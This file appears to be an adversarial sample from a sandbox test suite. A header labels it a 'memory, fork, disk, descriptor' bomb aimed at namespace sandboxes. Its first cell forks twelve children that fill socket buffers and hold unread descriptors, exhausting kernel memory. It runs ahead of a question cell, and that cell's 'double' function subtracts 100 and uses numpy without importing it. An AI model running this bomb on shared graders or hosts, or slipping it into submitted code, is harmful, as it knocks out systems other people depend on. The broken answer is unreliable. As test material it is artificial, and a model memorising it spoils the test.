# ---
# attack: 'Has children fill the buffers of sockets, close the ends that sent, and keep those that nobody reads.'
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'The cell `import os`'
# ---
# %% before="q1"
import os
import socket
import time

block = bytes(2**20)
for _ in range(12):
    if os.fork() == 0:
        kept = []
        for _ in range(450):
            sender, receiver = socket.socketpair()
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
            sender.setblocking(False)
            try:
                while True:
                    sender.send(block)
            except BlockingIOError:
                sender.close()
            kept.append(receiver)
        time.sleep(5)
        os._exit(0)
time.sleep(5)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
